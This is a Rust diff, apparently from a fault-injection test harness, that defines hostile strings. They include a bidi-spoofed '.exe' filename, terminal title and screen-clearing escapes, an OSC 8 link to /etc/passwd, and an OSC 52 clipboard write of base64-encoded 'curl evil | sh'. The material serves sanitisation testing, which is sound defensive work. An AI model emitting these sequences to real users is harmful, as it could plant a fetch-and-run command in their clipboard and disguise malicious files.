@@ -41,3 +41,10 @@ pub const FILENAMES: &[&str] = &["invoice\u{202e}fdp.exe", "report\u{200b}.pdf"]
 pub const ERROR: &str = "Denied \u{1b}]0;pwned\u{7}by \u{1b}]52;c;ZWNobyBwd25lZA==\u{7}policy \u{1b}[2J\u{9b}31mnow \u{202e}gnirts\u{202c} \
     a\u{34f}b c\u{e0041}\u{e007f}d \u{fff9}e\u{fffb} \u{3164}f\u{115f}\u{1160} g\u{2062}h \u{2028}i\u{2029} \
     \u{ad}\u{200b}\u{feff}end";
+
+/// What the `hostile-text` fault appends to every string of an answer: a clipboard write
+/// (OSC 52), a window title (OSC 0), an OSC 8 link to a local file, a DCS and an APC string,
+/// a C1 CSI, colours, bidi overrides and isolates, and invisible characters.
+pub const TEXT: &str = " \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}]0;pwned\u{7}\
+    \u{1b}]8;;file:///etc/passwd\u{1b}\\click\u{1b}]8;;\u{1b}\\\u{1b}P1$r\u{1b}\\\u{1b}_apc\u{1b}\\\
+    \u{9b}2J\u{9d}0;c1\u{9c}\u{1b}[31mred\u{1b}[0m\u{202e}evil\u{202c}\u{2067}iso\u{2069}\u{200b}\u{feff}\u{7}";
